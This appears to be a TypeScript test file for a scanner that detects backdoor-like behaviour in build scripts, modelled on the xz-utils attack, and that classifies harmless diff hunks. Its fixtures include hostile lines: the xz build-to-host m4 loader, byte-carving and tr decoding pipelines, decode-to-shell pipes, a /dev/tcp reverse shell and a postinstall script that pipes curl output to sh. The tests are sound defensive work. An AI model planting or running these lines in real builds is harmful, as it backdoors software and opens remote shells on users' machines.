import { describe, it, expect } from "vitest";
import { grepMarkers, scanBehaviour } from "../src/content/behaviour.js";
import { analyze, isDangerous } from "../src/content/analyze.js";
import { m4ToShell } from "../src/content/m4.js";
import { pythonAssignsOnlyLiterals } from "../src/content/python.js";
import { lifecycleFiles } from "../src/content/js.js";
import { classifyHunks } from "../src/diff/classify-hunks.js";
import { textDiff } from "../src/diff/text-diff.js";

const ids = (text: string, path = "configure") => scanBehaviour(text, path).map((h) => h.pattern.id);

describe("behaviour analysis (parsed shell, data flow)", () => {
  const positives: [string, string, string?][] = [
    ["grep-source-tree", 'gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`'],
    ["tr-byte-map", `gl_path_map='tr "\\t \\-_" " \\t_\\-"'`],
    ["tr-byte-map", 'xz -dc x | tr "\\114-\\321\\322-\\377\\35-\\47\\14-\\34\\0-\\13\\50-\\113" "\\0-\\377"'],
    ["byte-carving", "xz -dc $f | { (head -c +1024 >/dev/null) && head -c +2048 && (head -c +1024 >/dev/null); }"],
    ["byte-carving", "dd if=$f bs=1 skip=512 count=1024 2>/dev/null"],
    ["eval-pipeline", "sed \"r\\n\" $gl_am_configmake | eval $gl_path_map | $gl_prefix -d 2>/dev/null"],
    ["pipe-to-shell", "AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null])", "m4/x.m4"],
    ["decode-to-shell", "echo $blob | base64 -d | sh"],
    ["decode-to-shell", "xz -dc $srcdir/tests/files/good.xz | bash"],
    ["build-time-download", "curl -fsSL https://example.org/x.sh -o x.sh"],
    ["build-time-download", "  wget -q -O /dev/null http://192.0.2.1/services.h"],
    ["reverse-shell", "sh -i >& /dev/tcp/192.0.2.1/6667 0>&1"],
    ["writes-source-tree", 'echo "int x;" >> "$srcdir/src/main.c"'],
  ];
  for (const [id, line, path] of positives) it(`${id}: ${line.slice(0, 50)}`, () => expect(ids(line, path)).toContain(id));

  it("stays quiet on ordinary configure and Makefile lines", () => {
    const ordinary = [
      'if grep "^#define HAVE_STDINT_H" confdefs.h >/dev/null; then',
      "ac_cv_prog_CC=`echo $CC | sed 's/ .*//'`",
      'eval "ac_cv_func_$ac_func=yes"',
      'as_tr_sh="eval sed \'y%*+%pp%;s%[^_$as_cr_alnum]%_%g\'"',
      "tr '[a-z]' '[A-Z]'",
      "tr abc xyz",
      "# curl https://example.org/ is mentioned in a comment",
      'test -f "$srcdir/src/main.c" || exit 1',
      "head -c 16 /dev/urandom",
      'eval "$NM \\"$nlist\\" | $global_symbol_pipe"',
      "GZIP=$GZIP_ENV gzip -dc $distdir.tar.gz | tar xf -",
    ];
    for (const l of ordinary) expect(ids(l), l).toEqual([]);
    expect(ids("\t$(MKDIR_P) $(DESTDIR)$(bindir)", "Makefile.in")).toEqual([]);
    expect(ids("dnl wget http://example.org in a dnl comment", "m4/a.m4")).toEqual([]);
  });

  it("turns a grep ERE with POSIX classes into a JS regex", () => {
    const [re] = grepMarkers('grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/');
    expect(re!.test("junk\n####Hello####\nmore")).toBe(true);
    expect(re!.test("####Hi####")).toBe(false);
  });

  it("follows a variable defined after its use (m4 macros are often ordered that way)", () => {
    const text = ["run() {", '  sed "r\\n" $found | $SHELL', "}", "found=`grep -rl MARK $srcdir`", "run"].join("\n");
    const a = analyze("configure", text);
    expect(a.hits.filter((h) => isDangerous(h.effect)).map((h) => `${h.line}:${h.id}`)).toEqual(expect.arrayContaining(["2:reads-test-data", "2:pipe-to-shell", "4:grep-source-tree"]));
  });

  it("marks code lines and not comments or blank lines", () => {
    const a = analyze("build.sh", "# comment\n\necho hi\nx=1\n");
    expect([...a.codeLines].sort()).toEqual([3, 4]);
    expect(a.language).toBe("shell");
  });

  it("reports what it could not analyse instead of dropping it", () => {
    const big = "x".repeat(17 * 1024 * 1024);
    expect(analyze("configure", big).notAnalysed).toMatch(/limit/);
  });

  it("isDangerous is false only for executes", () => {
    expect(isDangerous("executes")).toBe(false);
    for (const e of ["reads-tree", "carves-bytes", "decodes", "evals", "sources", "downloads", "network", "writes-tree"] as const) expect(isDangerous(e)).toBe(true);
  });
});

describe("language front ends", () => {
  const dangerousIds = (path: string, text: string) => analyze(path, text).hits.filter((h) => isDangerous(h.effect)).map((h) => `${h.line}:${h.id}`);

  it("m4: macro arguments become shell on their own lines, line numbers kept", () => {
    const { shell, lineMap } = m4ToShell("AC_DEFUN([X], [dnl\n  a=[$1]_b\n  AC_CONFIG_COMMANDS([n], [echo @S|@x])\n])\n");
    expect(shell).toContain("a=m4arg1_b");
    expect(shell).toContain("echo $x");
    expect(shell).not.toContain("dnl");
    const row = shell.split("\n").findIndex((l) => l.includes("echo $x"));
    expect(lineMap[row]).toBe(3);
  });

  it("m4: the xz build-to-host shape gives several independent hits", () => {
    const m4 = [
      "AC_DEFUN([gl_BUILD_TO_HOST],",
      "[",
      `  gl_path_map='tr "\\t \\-_" " \\t_\\-"'`,
      "  gl_[$1]_config='sed \\\"r\\n\\\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'",
      "  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt=\"eval \\$gl_[$1]_config\"])",
      "])",
      "AC_DEFUN([gl_BUILD_TO_HOST_INIT],",
      "[",
      '  gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`',
      '  gl_[$1]_prefix=`echo $gl_am_configmake | sed "s/.*\\.//g"`',
      "])",
    ].join("\n");
    const kinds = new Set(analyze("m4/build-to-host.m4", m4).hits.filter((h) => isDangerous(h.effect)).map((h) => h.id));
    for (const id of ["grep-source-tree", "tr-byte-map", "reads-test-data", "pipe-to-shell", "computed-command"]) expect(kinds, id).toContain(id);
  });

  it("make: recipes are shell with $$ and the Makefile's variables", () => {
    expect(dangerousIds("Makefile.in", "X = tests/files\nall:\n\tcat $(X)/a.bin | $(SHELL)\n")).toContain("3:pipe-to-shell");
    expect(dangerousIds("Makefile.in", "all:\n\tfor f in *.c; do echo $$f; done\n")).toEqual([]);
  });

  it("python: a version file that only assigns literals is one; one that calls is not", () => {
    expect(pythonAssignsOnlyLiterals("__version__ = '1.0'\nversion_tuple = (1, 0)\n")).toBe(true);
    expect(pythonAssignsOnlyLiterals("import subprocess\n__version__ = subprocess.check_output(['git', 'describe']).decode()\n")).toBe(false);
    expect(dangerousIds("pkg/_version.py", "__version__ = '1.0'\n")).toEqual([]);
    expect(dangerousIds("pkg/_version.py", "__version__ = '1.0'\nprint(1)\n")).toEqual(["2:py-version-file-runs-code"]);
  });

  it("python: os.system commands are analysed as shell", () => {
    expect(dangerousIds("setup.py", "import os\nos.system('cat tests/files/x.bin | sh')\n").some((h) => h.startsWith("2:py-shell-"))).toBe(true);
    expect(dangerousIds("setup.py", "import subprocess\nsubprocess.check_call(['make', '-C', 'src'])\n")).toEqual([]);
  });

  it("npm: lifecycle scripts are shell and name the files they run", () => {
    const pkg = JSON.stringify({ scripts: { postinstall: "node ./scripts/setup.js && curl -s http://192.0.2.1 | sh", test: "vitest" } }, null, 2);
    expect(dangerousIds("package.json", pkg).length).toBeGreaterThan(0);
    expect(lifecycleFiles(pkg)).toEqual(["scripts/setup.js"]);
  });

  it("scanBehaviour keeps its shape and drops plain executions", () => {
    const hits = scanBehaviour("make all\ncat tests/files/x | sh\n", "build.sh");
    expect(hits.every((h) => typeof h.pattern.id === "string" && typeof h.pattern.explain === "string" && h.line === 2)).toBe(true);
    expect(hits.length).toBeGreaterThan(0);
  });
});

describe("hunk classification", () => {
  const verdicts = (path: string, a: string, b: string) => classifyHunks(path, textDiff(path, a, b).hunks!).map((v) => v.stamps);

  it("accepts man-page dates, version defines, texinfo @set and release dates in NEWS", () => {
    expect(verdicts("doc/xz.1", '.TH XZ 1 "2024-01-01" "Tukaani" "XZ Utils"\n.SH NAME\n', '.TH XZ 1 "2024-02-24" "Tukaani" "XZ Utils"\n.SH NAME\n')).toEqual([["man-page-date"]]);
    expect(verdicts("src/version.h", "#define PKG_VERSION \"1.0\"\nint x;\n", "#define PKG_VERSION \"1.1\"\nint x;\n")).toEqual([["version-define"]]);
    expect(verdicts("doc/p.texi", "@set UPDATED 1 January 2024\n", "@set UPDATED 24 February 2024\n")).toEqual([["texinfo-set"]]);
    expect(verdicts("NEWS", "Version 1.1 (unreleased)\n", "Version 1.1 (2024-02-24)\n")).toEqual([null]);
    expect(verdicts("NEWS", "Version 1.1 (2024-01-01)\n", "Version 1.1 (2024-02-24)\n")).toEqual([["release-date"]]);
  });

  it("rejects a hunk that changes code next to a stamp", () => {
    const a = "#define PKG_VERSION \"1.0\"\nint x;\n";
    const b = "#define PKG_VERSION \"1.1\"\nint x = system(\"sh\");\n";
    expect(verdicts("src/version.h", a, b)).toEqual([null]);
  });

  it("does not accept a changed number in code as a date", () => {
    expect(verdicts("src/buf.c", "char buf[64];\n", "char buf[6400];\n")).toEqual([null]);
  });

  it("keeps stamps apart from real changes in the same file", () => {
    const a = ".TH X 1 \"2024-01-01\"\n" + "text\n".repeat(20) + "old\n";
    const b = ".TH X 1 \"2024-02-02\"\n" + "text\n".repeat(20) + "new\n";
    expect(verdicts("x.1", a, b)).toEqual([["man-page-date"], null]);
  });
});
